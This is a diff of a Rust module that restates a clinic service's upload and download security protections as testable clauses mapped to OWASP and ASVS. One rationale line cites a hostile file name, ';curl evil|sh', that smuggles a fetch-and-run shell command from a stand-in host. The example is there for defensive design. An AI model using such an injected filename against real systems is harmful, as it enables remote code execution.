@@ -1,11 +1,18 @@
 //! Files: how they come in, and how they go out.
 
-use super::{Facts, Family};
+#![expect(missing_docs, reason = "what a protection states, and why, is in its fields")]
 
-pub(super) const INPUT_COMMAND_TEMPLATE: Facts = Facts {
+use super::{Family, Protection, clause};
+
+pub static INPUT_COMMAND_TEMPLATE: Protection = Protection {
     id: "input-command-template",
     family: Family::Input,
-    statement: "No shell, no subprocess, no dynamic code, no template from outside: the scanner is spoken to over a socket and never told a file's name, mails and pages are compiled in, and what people write is text in them.",
+    clauses: &[
+        clause("What people write is never a command", &["command"]),
+        clause("nor a template", &["template"]),
+        clause("a recipient, a header field or a line of its own in a mail", &["smtp"]),
+        clause("or a look-up", &["log4"]),
+    ],
     why: "A file called `;curl evil|sh` is a command the moment somebody pastes it into one.",
     owasp: &["API8:2023"],
     asvs: &["1.2.5", "1.3.2", "1.3.7", "1.3.11", "15.1.5"],
@@ -13,10 +20,18 @@ pub(super) const INPUT_COMMAND_TEMPLATE: Facts = Facts {
     references: &["OS Command Injection CS"],
 };
 
-pub(super) const UPLOAD_TYPE: Facts = Facts {
+pub static UPLOAD_TYPE: Protection = Protection {
     id: "upload-type",
     family: Family::Input,
-    statement: "Uploads are PDF, PNG, JPEG or DICOM, and extension, declared type and parsed content agree; names and places on disk are random and outside of anything served; the original name is kept as a sealed value only.",
+    clauses: &[
+        clause(
+            "Files are PDF, PNG, JPEG or DICOM, and extension, declared type and content agree",
+            &["mismatch"],
+        ),
+        clause("names on disk are random, nothing of the sender's", &["path"]),
+        clause("one name, in one form", &["header"]),
+        clause("nothing is served from disk directly", &["direct"]),
+    ],
     why: "A page that calls itself an X-ray runs in the browser of whoever opens it.",
     owasp: &["API8:2023"],
     asvs: &["5.1.1", "5.2.2", "5.3.1", "5.3.2", "5.4.1"],
@@ -24,10 +39,17 @@ pub(super) const UPLOAD_TYPE: Facts = Facts {
     references: &["File Upload CS", "RFC 8187 §3.2", "PNG §5", "ISO 32000-1 §7.5", "DICOM PS3.10 §7.1"],
 };
 
-pub(super) const UPLOAD_RESOURCE_LIMITS: Facts = Facts {
+pub static UPLOAD_RESOURCE_LIMITS: Protection = Protection {
     id: "upload-resource-limits",
     family: Family::Input,
-    statement: "A file is ≤10 MiB, a member adds ≤20 an hour and keeps ≤500 MiB, an organization has a quota; counted with the row, so that no race overshoots; streamed to disk with an early 413; images ≤40 Mpx; archives are not accepted; what is broken off leaves nothing.",
+    clauses: &[
+        clause("A file is at most 10 MiB, refused early", &["size"]),
+        clause("a member adds 20 an hour", &["pace"]),
+        clause("members and organizations have quotas, which no race overshoots", &["quota"]),
+        clause("images have at most 40 megapixels", &["bomb"]),
+        clause("what is broken off leaves nothing", &["temp"]),
+        clause("files are streamed, not held in memory", &["memory"]),
+    ],
     why: "A disk that one client can fill is a service that one client can stop.",
     owasp: &["API4:2023"],
     asvs: &["5.2.1", "5.2.3", "5.2.4", "5.2.5", "5.2.6", "5.3.3"],
@@ -35,10 +57,21 @@ pub(super) const UPLOAD_RESOURCE_LIMITS: Facts = Facts {
     references: &["File Upload CS \"Upload and Download Limits\""],
 };
 
-pub(super) const UPLOAD_MALWARE: Facts = Facts {
+pub static UPLOAD_MALWARE: Protection = Protection {
     id: "upload-malware",
     family: Family::Input,
-    statement: "A file can't be downloaded before a scanner called it clean, also while the scanner is down; infected files are removed; without a scanner nothing is taken in unless the operator wrote that none is wanted; metadata of JPEG and PNG is stripped.",
+    clauses: &[
+        clause(
+            "A file can't be fetched before a scanner called it clean, also while the scanner is down",
+            &["early", "scanner-down"],
+        ),
+        clause("an infected one is removed", &["eicar"]),
+        clause(
+            "without a scanner nothing is taken, unless the operator wrote that none is wanted",
+            &["unset"],
+        ),
+        clause("metadata of JPEG and PNG is stripped, but for which way up they are", &["exif"]),
+    ],
     why: "A clinic that hands on whatever it is given hands on the worm as well, and the photographer's address.",
     owasp: &["API8:2023"],
     asvs: &["5.4.3", "14.2.8", "16.5.2"],
@@ -46,10 +79,18 @@ pub(super) const UPLOAD_MALWARE: Facts = Facts {
     references: &["File Upload CS", "clamd(8) INSTREAM"],
 };
 
-pub(super) const OUTPUT_DOWNLOAD_SAFE: Facts = Facts {
+pub static OUTPUT_DOWNLOAD_SAFE: Protection = Protection {
     id: "output-download-safe",
     family: Family::Output,
-    statement: "Downloads are `attachment` with the name in RFC 8187 form and nothing else, in their own media type, with `nosniff` and a content security policy that runs and loads nothing; ranges are not served. CSV cells are RFC 4180-quoted and formula-escaped.",
+    clauses: &[
+        clause(
+            "Downloads are attachments in their own media type, with nosniff and a policy that runs nothing",
+            &["inline"],
+        ),
+        clause("their names are one quoted parameter", &["name"]),
+        clause("CSV cells are quoted, and no cell is a formula", &["formula"]),
+        clause("ranges are not served", &["range"]),
+    ],
     why: "What a browser shows in the service's own origin acts in it.",
     owasp: &["API8:2023"],
     asvs: &["3.2.1", "5.4.1", "5.4.2", "1.2.10"],
